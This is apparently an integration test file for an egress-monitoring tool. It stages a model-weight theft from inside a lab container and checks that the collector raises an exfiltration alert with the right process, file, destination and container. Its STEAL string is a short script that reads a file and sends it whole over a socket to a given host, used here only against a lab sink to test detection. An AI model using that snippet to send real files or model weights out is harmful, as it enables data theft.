"""End to end, a theft from inside a container: the host's one agent (eBPF attribution, file
watcher) and the collector's pipeline, nothing faked between them.

The "container" has its own network namespace routed through the lab's host namespace, its own
mount namespace where the weights are bind-mounted at another path (as a pod's volume), and a
cgroup that says containerd/Kubernetes. A process in it reads the weights and uploads them; the
collector must raise `exfiltration` naming the process, the weight file by its host path, the
destination and the container. Its benign twin in the same pod (load the weights, push a little
telemetry to the same place) raises nothing high or critical.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.corpus.replay import message
from tests.helpers.agent_run import DaemonRun
from tests.helpers.containers import CTR_ID, POD_UID, Lab, lab_fixture
from tests.helpers.netns import wait_for
from weightwarden.collector.ingest.pipeline import Pipeline
from weightwarden.collector.store.database import Store

pytestmark = pytest.mark.privileged

PORT = 8090
SIZE = 24 << 20
STEAL = """import socket, sys
data = open(sys.argv[1], "rb").read()
s = socket.create_connection((sys.argv[2], int(sys.argv[3])))
s.sendall(data)
s.close()
"""


# The benign twin: the same pod loads the weights (an inference server starting) and pushes a little
# telemetry to the same place. It read the weights and it uploads, but not the weights' worth.
LOAD_AND_REPORT = """import os, socket, sys
data = open(sys.argv[1], "rb").read()
s = socket.create_connection((sys.argv[2], int(sys.argv[3])))
s.sendall(b"m" * 65536)
s.close()
print(os.getpid(), flush=True)
"""


class _HostNs:
    """What DaemonRun needs of a namespace pair, for the lab's host namespace. nsenter --net, not
    `ip netns exec`: the latter remounts /sys, hiding the cgroup hierarchy the eBPF path attaches to."""

    def __init__(self, lab: Lab) -> None:
        self.a = lab.host
        self.procs = lab.procs

    def popen(self, ns: str, *argv: str, **kw: Any) -> subprocess.Popen[bytes]:
        proc: subprocess.Popen[bytes] = subprocess.Popen(["nsenter", f"--net=/run/netns/{ns}", *argv], **kw)
        self.procs.append(proc)
        return proc


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    yield from lab_fixture()


def test_a_container_that_reads_and_uploads_the_weights_is_named_in_the_alert(lab: Lab, tmp_path: Path) -> None:
    models = Path(tempfile.mkdtemp(prefix="ww-models-", dir="/srv" if Path("/srv").is_dir() else None))
    volume = tmp_path / "pod-volume"  # where the container sees them
    volume.mkdir()
    try:
        weights = models / "model-00001-of-00001.safetensors"
        weights.write_bytes(os.urandom(SIZE))
        policy = tmp_path / "policy.yaml"
        policy.write_text(f"apiVersion: weightwarden/v1\nkind: EgressPolicy\nmetadata: {{name: pods}}\n"
                          f"spec:\n  interval: 1s\n  weights:\n    paths: [\"{models}/*.safetensors\"]\n")
        lab.sink(PORT, PORT + 1)
        agent = DaemonRun(_HostNs(lab), policy, tmp_path / "state", "--attribution", "ebpf",  # type: ignore[arg-type]
                          "--bpf-cgroup", str(lab.root), "--heartbeat-interval", "2")
        agent.wait_event("agent_started", timeout=30)
        agent.wait_event("egress_sample", timeout=30)
        mark = len(agent.events)

        twin = lab.run_ctr("sh", "-c", f"mount --bind {models} {volume} && exec {sys.executable} -c "
                           f"'{LOAD_AND_REPORT}' {volume}/{weights.name} {lab.out_addr} {PORT}", check=False)
        assert twin.returncode == 0, twin.stderr
        twin_pid = int(twin.stdout.split()[0])
        steal = lab.run_ctr("sh", "-c", f"mount --bind {models} {volume} && exec {sys.executable} -c '{STEAL}' "
                            f"{volume}/{weights.name} {lab.out_addr} {PORT}", check=False)
        assert steal.returncode == 0, steal.stderr

        pipe = Pipeline(Store(f"sqlite:///{tmp_path}/collector.db"))
        fed = 0

        def alerted() -> list[dict[str, Any]]:
            nonlocal fed
            new = agent.events[fed:]
            fed += len(new)
            if new:
                assert pipe.ingest([message(e) for e in new])["rejected"] == 0, pipe.errors
            return [a for a in pipe.store.alerts() if a["kind"] == "exfiltration"]

        assert wait_for(lambda: bool(alerted()), 20), (
            [(e["type"], e["data"].get("name")) for e in agent.events[mark:] if e["type"] != "egress_sample"],
            "".join(agent.stderr[-10:]))
        [alert] = alerted()
        ev = alert["evidence"]
        assert ev["process"]["pid"] != twin_pid
        # The twin's samples came first and were judged as they came: it raised nothing high or critical.
        assert any(p["pid"] == twin_pid for e in agent.events if e["type"] == "egress_sample"
                   for p in e["data"]["processes"]), "the twin's upload was not seen: it proves nothing"
        loud = [a for a in pipe.store.alerts() if a["severity"] in ("high", "critical")
                and a["evidence"].get("process", {}).get("pid") == twin_pid]
        assert not loud, loud
        assert alert["severity"] in ("high", "critical")
        assert ev["process"]["name"].startswith("python")
        assert any(str(weights) in str(f) for f in ev["files"]), ev["files"]  # the host path, not the pod's
        assert any(lab.out_addr in str(d) for d in ev["destinations"]), ev["destinations"]
        container = ev["process"].get("container")
        container = json.loads(container) if isinstance(container, str) else container
        assert container and container.get("id") == CTR_ID and container.get("pod_uid") == POD_UID, ev
        agent.stop()
    finally:
        subprocess.run(["umount", "-l", str(volume)], capture_output=True, check=False)
        for p in models.iterdir():
            p.unlink()
        models.rmdir()
